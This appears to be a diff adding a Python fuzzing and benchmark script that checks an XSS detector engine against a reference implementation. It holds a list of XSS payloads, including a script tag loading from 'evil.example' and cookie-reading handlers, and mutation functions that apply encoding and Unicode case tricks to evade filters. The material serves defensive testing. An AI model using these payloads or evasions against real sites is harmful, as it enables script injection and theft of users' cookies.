@@ -0,0 +1,450 @@
+"""
+Дифференциальное тестирование и бенчмарк XSSDetector.
+
+Генерирует из seed корпус случайных и мутированных HTML-страниц и
+полезных нагрузок, прогоняет его через эталонную реализацию и через
+проверяемый движок и сравнивает находки одна к одной. Для каждого движка
+выводятся совпадения/с, байты/с и худшая задержка на один вход.
+Работает офлайн; одинаковый seed даёт одинаковый корпус.
+
+    python benchmarks/detector_fuzz.py --seed 1 --inputs 5000
+    python benchmarks/detector_fuzz.py --engine mymodule:FastDetector --no-decode
+"""
+import argparse
+import base64
+import html
+import importlib
+import json
+import os
+import random
+import sys
+import time
+import re
+from urllib.parse import quote, unquote
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, ROOT)
+
+SIGNATURES_PATH = os.environ.get('XSS_SIGNATURES_PATH',
+                                 os.path.join(ROOT, 'scanner', 'signatures.json'))
+
+PAYLOADS = [
+    '<script>alert(1)</script>',
+    '<script src="//evil.example/x.js"></script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(document.cookie)>',
+    '<body onload=prompt(1)>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<a href="javascript:confirm(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<object data="data:text/html,<script>alert(1)</script>">',
+    '<embed src=x>',
+    '<form action=javascript:alert(1)><input type=submit>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<math><mtext><script>eval(atob("YWxlcnQoMSk="))</script>',
+    '<div onmouseover="window.location=\'//evil\'">x</div>',
+    'document.write(location.href)',
+    'window.open("//evil")',
+    'console.log(document.cookie)',
+    '"><script>alert(1)</script>',
+    "';alert(1)//",
+]
+
+BENIGN = [
+    '<div class="item"><p>Lorem ipsum dolor sit amet</p></div>',
+    '<a href="/catalog?page=2&amp;sort=price">Далее</a>',
+    '<li><a href="/about">О компании</a></li>',
+    '<span>Цена: 100&nbsp;руб.</span>',
+    '<img src="/static/logo.png" alt="logo">',
+    '<input type="text" name="q" value="">',
+    '<p>Онлайн-форма обратной связи, скрипты и объекты</p>',
+    'var config = {"path": "\\/api\\/v1", "debug": false};',
+    '<button class="one">Отправить</button>',
+    'https://example.com/search?q=%D0%BF%D0%BE%D0%B8%D1%81%D0%BA',
+]
+
+# Символы для мутаций: нуль-байт, BOM, юникодные варианты регистра ('ſ', знак Кельвина,
+# 'İ', 'ı'), переводы строк и символы, запускающие слои декодирования
+NOISE = ['\x00', '\ufeff', '\u017f', '\u212a', '\u0130', '\u0131', '\r', '\t',
+         '<', '>', '"', "'", '%', '&', '\\', '=']
+
+
+def _case_flip(rng, text):
+    return ''.join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)
+
+
+def _insert_whitespace(rng, text):
+    pos = rng.randrange(len(text) + 1)
+    return text[:pos] + rng.choice([' ', '\t', '\n', '  ']) + text[pos:]
+
+
+def _insert_noise(rng, text):
+    pos = rng.randrange(len(text) + 1)
+    return text[:pos] + rng.choice(NOISE) + text[pos:]
+
+
+# Замены на символы, которые re.IGNORECASE считает той же буквой
+CASE_VARIANTS = {'i': ['\u0130', '\u0131'], 's': ['\u017f'], 'k': ['\u212a']}
+
+
+def _unicode_case(rng, text):
+    return ''.join(rng.choice(CASE_VARIANTS[c.lower()])
+                   if c.lower() in CASE_VARIANTS and rng.random() < 0.3 else c
+                   for c in text)
+
+
+def _truncate(rng, text):
+    if len(text) < 2:
+        return text
+    return text[:rng.randrange(1, len(text))]
+
+
+def _url_encode(rng, text):
+    return quote(text, safe='' if rng.random() < 0.5 else '/=')
+
+
+def _html_encode(rng, text):
+    if rng.random() < 0.5:
+        return html.escape(text)
+    return ''.join(f'&#{ord(c)};' if c in '<>"\'(' else c for c in text)
+
+
+def _unicode_escape(rng, text):
+    return ''.join(f'\\u{ord(c):04x}' if c in '<>"\'' else c for c in text)
+
+
+def _data_base64(rng, text):
+    encoded = base64.b64encode(text.encode('utf-8')).decode('ascii')
+    return f'<a href="data:text/html;base64,{encoded}">x</a>'
+
+
+MUTATIONS = [
+    _case_flip, _unicode_case, _insert_whitespace, _insert_noise, _truncate,
+    _url_encode, _html_encode, _unicode_escape, _data_base64,
+]
+
+
+def mutate(rng, text, max_mutations=4):
+    for _ in range(rng.randint(0, max_mutations)):
+        text = rng.choice(MUTATIONS)(rng, text)
+    return text
+
+
+def generate_input(rng, max_lines=200):
+    """Один вход: короткий параметр или страница из фрагментов"""
+    if rng.random() < 0.5:
+        return mutate(rng, rng.choice(PAYLOADS + BENIGN))
+
+    lines = []
+    for _ in range(rng.randint(1, max_lines)):
+        if rng.random() < 0.1:
+            lines.append(mutate(rng, rng.choice(PAYLOADS)))
+        else:
+            lines.append(mutate(rng, rng.choice(BENIGN), max_mutations=1))
+    return '\n'.join(lines)
+
+
+def generate_corpus(seed, count, max_lines=200):
+    rng = random.Random(seed)
+    return [generate_input(rng, max_lines) for _ in range(count)]
+
+
+# Эталон не использует код движка: правила читаются из файла напрямую, а
+# декодирование, отбор новых совпадений и уровень угрозы написаны заново
+# по описанию поведения детектора
+REFERENCE_MAX_DECODE_DEPTH = 5
+REFERENCE_SEVERITY = {'low': 1, 'medium': 2, 'high': 3}
+REFERENCE_HIGH_MARKERS = ('<script', 'javascript:', 'onload=')
+# Имя обработчика события ограничено 64 символами, как в правиле XSS-003
+REFERENCE_DETAILED_CHECKS = {
+    'script_tags': re.compile(r'<script.*?>', re.IGNORECASE),
+    'event_handlers': re.compile(r'on\w{1,64}\s*=', re.IGNORECASE),
+    'javascript_protocol': re.compile(r'javascript:', re.IGNORECASE),
+    'dangerous_tags': re.compile(r'<(iframe|embed|object|form)', re.IGNORECASE),
+}
+REFERENCE_DATA_BASE64 = re.compile(
+    r'(data:[^,;]{0,100}(?:;[^,;]{0,100})*;base64,)([A-Za-z0-9+/]+={0,2})', re.IGNORECASE)
+HEX_DIGITS = frozenset('0123456789abcdefABCDEF')
+
+
+def _hex_value(text):
+    if text and all(c in HEX_DIGITS for c in text):
+        return int(text, 16)
+    return None
+
+
+def _parse_escape(text, i):
+    """(код, конец) для escape-последовательности в позиции i или (None, i)"""
+    if text.startswith('\\x', i):
+        code = _hex_value(text[i + 2:i + 4]) if len(text[i + 2:i + 4]) == 2 else None
+        return (code, i + 4) if code is not None else (None, i)
+    if not text.startswith('\\u', i):
+        return None, i
+
+    if text.startswith('{', i + 2):
+        close = text.find('}', i + 3, i + 10)
+        code = _hex_value(text[i + 3:close]) if close != -1 else None
+        return (code, close + 1) if code is not None else (None, i)
+
+    code = _hex_value(text[i + 2:i + 6]) if len(text[i + 2:i + 6]) == 4 else None
+    if code is None:
+        return None, i
+    if 0xD800 <= code <= 0xDBFF and text.startswith('\\u', i + 6):
+        low = _hex_value(text[i + 8:i + 12]) if len(text[i + 8:i + 12]) == 4 else None
+        if low is not None and 0xDC00 <= low <= 0xDFFF:
+            return 0x10000 + ((code - 0xD800) << 10) + (low - 0xDC00), i + 12
+    return code, i + 6
+
+
+def reference_unicode_escapes(text):
+    """\\uXXXX, суррогатные пары, \\u{...} и \\xXX; одиночный суррогат не трогается"""
+    out = []
+    i = 0
+    while i < len(text):
+        code, end = _parse_escape(text, i) if text[i] == '\\' else (None, i)
+        if code is None:
+            out.append(text[i])
+            i += 1
+        elif code > 0x10FFFF or 0xD800 <= code <= 0xDFFF:
+            out.append(text[i:end])
+            i = end
+        else:
+            out.append(chr(code))
+            i = end
+    return ''.join(out)
+
+
+def reference_data_base64(text):
+    def replace(match):
+        payload = match.group(2)
+        try:
+            decoded = base64.b64decode(payload + '=' * (-len(payload) % 4), validate=True)
+        except ValueError:
+            return match.group()
+        return match.group(1) + decoded.decode('utf-8', errors='replace')
+    return REFERENCE_DATA_BASE64.sub(replace, text)
+
+
+def reference_normalize(text, max_depth=REFERENCE_MAX_DECODE_DEPTH):
+    """URL, HTML-сущности, escape и base64 по кругу до неподвижной точки"""
+    for _ in range(max_depth):
+        previous = text
+        text = reference_data_base64(reference_unicode_escapes(html.unescape(unquote(text))))
+        if text == previous:
+            break
+    return text
+
+
+def load_reference_rules(path=SIGNATURES_PATH):
+    """(id, severity, regex) из файла сигнатур, без индекса по ключевым словам"""
+    with open(path, encoding='utf-8') as f:
+        data = json.load(f)
+    return [(rule['id'], rule.get('severity', 'medium'),
+             re.compile(rule['pattern'], re.IGNORECASE | re.DOTALL))
+            for rule in data['rules']]
+
+
+class ReferenceDetector:
+    """
+    Эталонная реализация: прогоняет все правила по всему тексту и
+    декодирует каждую строку без индекса, пропуска слоёв и кэша.
+    Медленная, но простая; с ней сверяются оптимизированные движки.
+    """
+
+    def __init__(self, decode=True, max_decode_depth=REFERENCE_MAX_DECODE_DEPTH):
+        self.rules = load_reference_rules()
+        self.decode = decode
+        self.max_decode_depth = max_decode_depth
+
+    def _match_all(self, text):
+        return [(rule_id, severity, regex.findall(text)) for rule_id, severity, regex in self.rules]
+
+    def check(self, text):
+        if not isinstance(text, str):
+            text = str(text)
+
+        decoded_text = unquote(text)
+        hits = [hit for hit in self._match_all(decoded_text) if hit[2]]
+
+        normalized_text = ''
+        if self.decode:
+            changed = []
+            for line in decoded_text.split('\n'):
+                decoded_line = reference_normalize(line, self.max_decode_depth)
+                if decoded_line != line:
+                    changed.append(decoded_line)
+            normalized_text = '\n'.join(changed)
+        if normalized_text:
+            # В декодированном тексте учитываются только совпадения сверх
+            # уже найденных тем же правилом в исходном тексте
+            found = {rule_id: list(matches) for rule_id, _, matches in hits}
+            for rule_id, severity, matches in self._match_all(normalized_text):
+                seen = found.get(rule_id, [])
+                fresh = []
+                for match in matches:
+                    if match in seen:
+                        seen.remove(match)
+                    else:
+                        fresh.append(match)
+                if fresh:
+                    hits.append((rule_id, severity, fresh))
+
+        threats_found = [match for _, _, matches in hits for match in matches]
+        matched_rules = list(dict.fromkeys(rule_id for rule_id, _, _ in hits))
+        severities = {severity for _, severity, _ in hits}
+
+        lowered = decoded_text.lower() + '\n' + normalized_text.lower()
+        if 'high' in severities or any(marker in lowered for marker in REFERENCE_HIGH_MARKERS):
+            threat_level = 'high'
+        elif 'medium' in severities:
+            threat_level = 'medium'
+        else:
+            threat_level = 'low'
+
+        return {
+            'is_threat': bool(threats_found),
+            'threat_level': threat_level,
+            'threats_found': threats_found[:10],
+            'threat_count': len(threats_found),
+            'matched_rules': matched_rules
+        }
+
+    def scan_input(self, input_text):
+        result = self.check(input_text)
+        result['detailed_checks'] = {
+            name: bool(pattern.search(input_text))
+            for name, pattern in REFERENCE_DETAILED_CHECKS.items()
+        }
+        return result
+
+
+def load_engine(spec, decode):
+    """Загружает движок по строке вида 'module:Class'"""
+    module_name, _, class_name = spec.partition(':')
+    engine_class = getattr(importlib.import_module(module_name), class_name or 'XSSDetector')
+    try:
+        return engine_class(decode=decode)
+    except TypeError:
+        return engine_class()
+
+
+def run_engine(engine, corpus, method):
+    """Прогоняет корпус и собирает результаты и метрики"""
+    scan = getattr(engine, method)
+    results = []
+    latencies = []
+    matches = 0
+
+    started = time.perf_counter()
+    for text in corpus:
+        t = time.perf_counter()
+        result = scan(text)
+        latencies.append(time.perf_counter() - t)
+        matches += result.get('threat_count', 0)
+        results.append(result)
+    elapsed = time.perf_counter() - started
+
+    total_bytes = sum(len(text.encode('utf-8', errors='replace')) for text in corpus)
+    worst = max(range(len(latencies)), key=latencies.__getitem__) if latencies else None
+    ordered = sorted(latencies)
+    metrics = {
+        'seconds': elapsed,
+        'matches': matches,
+        'matches_per_sec': matches / elapsed if elapsed else 0.0,
+        'bytes_per_sec': total_bytes / elapsed if elapsed else 0.0,
+        'p99_ms': ordered[int(len(ordered) * 0.99) - 1] * 1000 if ordered else 0.0,
+        'worst_ms': latencies[worst] * 1000 if latencies else 0.0,
+        'worst_input': worst,
+    }
+    return results, metrics
+
+
+COMPARED_FIELDS = ('is_threat', 'threat_level', 'threat_count', 'threats_found',
+                   'matched_rules', 'detailed_checks')
+
+# Поля, которые должен вернуть каждый метод движка
+METHOD_FIELDS = {
+    'check': tuple(f for f in COMPARED_FIELDS if f != 'detailed_checks'),
+    'scan_input': COMPARED_FIELDS,
+}
+
+MISSING = object()
+
+
+def compare(reference_results, candidate_results, fields=COMPARED_FIELDS):
+    """Индексы и поля входов, где движки разошлись; отсутствующее поле - тоже расхождение"""
+    mismatches = []
+    for index, (expected, actual) in enumerate(zip(reference_results, candidate_results)):
+        differ = [f for f in fields
+                  if expected.get(f, MISSING) is MISSING or actual.get(f, MISSING) is MISSING
+                  or expected[f] != actual[f]]
+        if differ:
+            mismatches.append((index, differ))
+    return mismatches
+
+
+def print_metrics(name, metrics):
+    print(f"{name:<12} {metrics['seconds']:8.3f} с  "
+          f"{metrics['matches_per_sec']:10.0f} совп./с  "
+          f"{metrics['bytes_per_sec'] / 1024 / 1024:7.2f} МБ/с  "
+          f"p99 {metrics['p99_ms']:7.2f} мс  "
+          f"худший {metrics['worst_ms']:7.2f} мс (вход #{metrics['worst_input']})")
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Дифференциальный фаззинг XSSDetector')
+    parser.add_argument('--seed', type=int, default=0)
+    parser.add_argument('--inputs', type=int, default=2000)
+    parser.add_argument('--max-lines', type=int, default=200)
+    parser.add_argument('--engine', default='scanner.xss_detector:XSSDetector',
+                        help='проверяемый движок в виде module:Class')
+    parser.add_argument('--method', choices=['check', 'scan_input'], default='scan_input')
+    parser.add_argument('--no-decode', action='store_true',
+                        help='сравнивать без многослойного декодирования')
+    parser.add_argument('--save-corpus', help='сохранить корпус в JSONL')
+    parser.add_argument('--show', type=int, default=5, help='сколько расхождений вывести')
+    args = parser.parse_args()
+
+    decode = not args.no_decode
+    corpus = generate_corpus(args.seed, args.inputs, args.max_lines)
+    total_bytes = sum(len(text.encode('utf-8', errors='replace')) for text in corpus)
+    print(f"Seed {args.seed}: {len(corpus)} входов, {total_bytes / 1024 / 1024:.1f} МБ")
+
+    if args.save_corpus:
+        with open(args.save_corpus, 'w', encoding='utf-8') as f:
+            for text in corpus:
+                f.write(json.dumps({'input': text}, ensure_ascii=False) + '\n')
+
+    reference = ReferenceDetector(decode=decode)
+    candidate = load_engine(args.engine, decode)
+
+    # Прогрев: загрузка сигнатур до начала замеров
+    reference.check('')
+    candidate.check('')
+
+    reference_results, reference_metrics = run_engine(reference, corpus, args.method)
+    candidate_results, candidate_metrics = run_engine(candidate, corpus, args.method)
+
+    print_metrics('эталон', reference_metrics)
+    print_metrics('движок', candidate_metrics)
+    if candidate_metrics['seconds']:
+        print(f"Ускорение относительно эталона: x"
+              f"{reference_metrics['seconds'] / candidate_metrics['seconds']:.2f}")
+
+    mismatches = compare(reference_results, candidate_results, METHOD_FIELDS[args.method])
+    if not mismatches:
+        print("Расхождений нет")
+        return 0
+
+    print(f"Расхождений: {len(mismatches)}")
+    for index, fields in mismatches[:args.show]:
+        print(f"  вход #{index}: {', '.join(fields)}")
+        print(f"    вход:   {corpus[index][:200]!r}")
+        for field in fields:
+            print(f"    эталон: {field}={reference_results[index].get(field, '<нет поля>')!r}")
+            print(f"    движок: {field}={candidate_results[index].get(field, '<нет поля>')!r}")
+    return 1
+
+
+if __name__ == '__main__':
+    sys.exit(main())